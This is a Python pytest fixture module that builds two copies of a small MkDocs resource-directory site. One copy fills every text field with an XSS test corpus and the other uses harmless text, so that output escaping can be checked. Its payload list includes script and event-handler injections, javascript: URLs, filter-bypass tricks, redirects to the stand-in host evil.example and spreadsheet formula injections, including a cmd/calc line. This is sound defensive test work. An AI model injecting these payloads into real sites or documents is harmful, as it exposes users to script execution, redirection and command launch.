"""Two sites built from the same entries: one with an XSS corpus in every text
field (and in the taxonomy's labels), one with harmless text in the same places.

Both are copies of tests/fixtures/mini with a generated data file and taxonomy.
Entry names sort the same way in both, so every page has the same elements in
the same order; only text differs. There are more than 100 entries, so the
finder has a second page.
"""

from __future__ import annotations

import functools
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

import pytest
import yaml

from .conftest import FIXTURES, ROOT, BuiltSite, build_site
from .site_scan import MARKER

# Each payload carries MARKER so that the scan can tell where text from the data landed.
PAYLOADS = [
    f'<script>alert("{MARKER}1")</script>',
    f'<img src=x onerror=alert("{MARKER}2")>',
    f'</script><script>alert("{MARKER}3")</script>',
    f'<!--<script>alert("{MARKER}4")</script>-->',
    f'Help](javascript:alert("{MARKER}5"))',
    f'[Help](javascript:alert("{MARKER}6")) and ![x](javascript:alert(6))',
    f'&lt;script&gt;alert("{MARKER}7")&lt;/script&gt; &amp; &#x3C;b&#x3E; &#60;i&#62;',
    f'" onmouseover="alert(\'{MARKER}8\')" x="',
    f"' onfocus='alert(\"{MARKER}9\")' autofocus x='",
    f'<svg/onload=alert("{MARKER}10")>',
    f"<iframe src=\"javascript:alert('{MARKER}11')\"></iframe>",
    f"<a href=\"javascript:alert('{MARKER}12')\">{MARKER}12</a>",
    f"{{{{ config }}}} {{% raw %}} ${{alert('{MARKER}13')}} `{MARKER}13`",
    f'<style>*{{display:none}}</style><base href="https://evil.example/">{MARKER}14',
    f'<meta http-equiv="refresh" content="0;url=https://evil.example/">{MARKER}15',
    f'<form action="https://evil.example/"><button formaction="javascript:alert(16)">{MARKER}16</button></form>',
    f'<math><mi xlink:href="javascript:alert(17)">{MARKER}17</mi></math>',
    f"</title></textarea></style></noscript><img src=x onerror=alert(18)>{MARKER}18",
    f'=HYPERLINK("https://evil.example/","{MARKER}19")',
    f'<object data="javascript:alert(20)"></object><embed src="data:text/html,{MARKER}20">',
    f"]]><![CDATA[<script>{MARKER}21</script>",
    f"<x-{MARKER}22 is=foo>custom</x-{MARKER}22>",
    f'javascript:alert("{MARKER}23")',
    f"<IMG SRC=JaVaScRiPt:alert('{MARKER}24')>",
    f"<p>{MARKER}25</p> *{MARKER}* _{MARKER}_ <b>bold</b>",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARKER}26",
    f"<scr<script>ipt>alert('{MARKER}27')</script>",
    f'<a href="&#106;avascript:alert(28)">{MARKER}28</a>',
]
# For fields whose limit is shorter than most payloads (keyword 40, postcode 20).
SHORT_PAYLOADS = [f"<b>{MARKER}</b>", f"<svg onload={MARKER}>", f'"><i>{MARKER}', f"={MARKER}()", "<script>x</script>"]
HARMLESS = ["NO", "yes", "on", "9:30", "012"]  # YAML 1.1 look-alikes that must stay text

KINDS = ["toolkit", "guidance", "national-programme", "local-service", "training", "helpline", "research"]
ENTRY_COUNT = 105
CLOSED_ID = "closed-entry"
CLOSED_NAME = "Closed entry wmclosed"


def corpus_text(index: int, limit: int) -> str:
    payload = PAYLOADS[index % len(PAYLOADS)]
    return payload if len(payload) <= limit else SHORT_PAYLOADS[index % len(SHORT_PAYLOADS)]


def harmless_text(index: int, limit: int) -> str:
    return HARMLESS[index % len(HARMLESS)]


Text = Callable[[int, int], str]


def entries(text: Text, names: dict[int, str] | None = None, today: date | None = None) -> list[dict]:
    today = today or date.today()
    recent, old = (today - timedelta(days=30)).isoformat(), (today - timedelta(days=800)).isoformat()
    result = []
    for i in range(ENTRY_COUNT):
        kind = KINDS[i % len(KINDS)]
        t = functools.partial(lambda i, limit, k=0: text(i + k, limit), i)  # this entry's text
        url_tail = f'"><svg/onload=alert({i})>{MARKER}' if text is corpus_text else "plain"
        entry = {
            "id": f"entry-{i:03d}",
            "name": names[i] if names else t(150),
            "kind": kind,
            "summary": t(250, 1),
            "description": "\n\n".join(t(900, k) for k in range(3)),
            "url": f"https://example.org/{i}/{url_tail}",
            "publisher": t(200, 2),
            "audience": ["public", "practitioners"],
            "topics": ["crisis", "emotional-support"],
            "settings": ["health-care"],
            "regions": [{"region": "england", "area": "dudley"}] if kind == "local-service" else ["uk"],
            "contact": {
                "phones": [
                    {"number": "0808 000 0000", "hours": t(200, 3), "note": t(300, 4), "relay_uk": True},
                    {"number": "85258", "type": "text", "keyword": t(40, 5)},
                ],
                "email": "help@example.org",
                "hours": t(200, 6),
                "webchat": f"https://example.org/{i}/chat/{url_tail}",
                "webchat_hours": t(200, 14),
                "bsl": f"https://example.org/{i}/bsl/{url_tail}",
            },
            "cost": "free",
            "format": ["online", "phone"],
            "languages": ["en", "cy"],
            "access": "open",
            "eligibility": t(200, 7),
            "practice_level": ["informed"],
            "content_notes": t(500, 8),
            "crisis": kind == "helpline",
            "crisis_needs": ["listening"] if kind == "helpline" else [],
            "published": "2023",
            "address": {"street": t(200, 9), "locality": t(100, 10), "postcode": t(20, 11)},
            "related": [f"entry-{(i + 1) % ENTRY_COUNT:03d}"],
            "last_reviewed": old if i % 4 == 0 else recent,
            "status": "paused" if i % 5 == 1 else "active",
            "status_note": t(300, 12),
            "source_kind": "third-party",
            "source_note": t(300, 13),
            "sources": [f"https://example.org/{i}/{url_tail}", "https://example.org/about"],
        }
        result.append(entry)
    closed = dict(result[0], id=CLOSED_ID, name=CLOSED_NAME, status="closed", related=[])
    return result + [closed]


def name_order(items: list[dict]) -> dict[int, str]:
    """Harmless names that sort exactly as the corpus names do (the site lists entries by name)."""
    ranked = sorted(range(len(items)), key=lambda i: (items[i]["name"].casefold(), items[i]["id"]))
    return {i: f"Entry {rank:03d}" for rank, i in enumerate(ranked) if items[i]["id"] != CLOSED_ID}


def taxonomy(text: Text) -> dict:
    data = yaml.safe_load((ROOT / "data" / "taxonomy.yaml").read_text(encoding="utf-8"))
    counter = iter(range(10_000))

    def term(value, label_limit=80):
        if isinstance(value, str):
            return text(next(counter), label_limit)
        value = dict(value, label=text(next(counter), label_limit))
        if value.get("description"):
            value["description"] = text(next(counter), 300)
        if value.get("areas"):
            value["areas"] = {key: text(next(counter), 100) for key in value["areas"]}
        return value

    for section in ("topics", "settings", "regions"):
        data[section] = {key: term(value) for key, value in data[section].items()}
    data["languages"] = {key: text(next(counter), 60) for key in data["languages"]}
    return data


class _Dumper(yaml.SafeDumper):
    def ignore_aliases(self, data):  # the loader refuses anchors and aliases
        return True


def dump(value) -> str:
    return yaml.dump(value, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=10**6)


def make_project(folder: Path, text: Text, names: dict[int, str] | None) -> Path:
    project = folder / "project"
    shutil.copytree(FIXTURES / "mini", project)
    (project / "data" / "resources.yaml").write_text(dump(entries(text, names)), encoding="utf-8")
    (project / "data" / "taxonomy.yaml").write_text(dump(taxonomy(text)), encoding="utf-8")
    config = project / "mkdocs.yml"
    config.write_text(
        config.read_text(encoding="utf-8").replace("../../../data/taxonomy.yaml", "data/taxonomy.yaml"),
        encoding="utf-8",
    )
    return project


@dataclass
class Builds:
    corpus: BuiltSite
    harmless: BuiltSite
    corpus_project: Path
    harmless_project: Path


@pytest.fixture(scope="session")
def hostile_builds(tmp_path_factory) -> Builds:
    corpus_project = make_project(tmp_path_factory.mktemp("corpus"), corpus_text, None)
    names = name_order(entries(corpus_text))
    harmless_project = make_project(tmp_path_factory.mktemp("harmless"), harmless_text, names)
    corpus = build_site(corpus_project / "mkdocs.yml", corpus_project.parent / "site")
    harmless = build_site(harmless_project / "mkdocs.yml", harmless_project.parent / "site")
    return Builds(corpus, harmless, corpus_project, harmless_project)
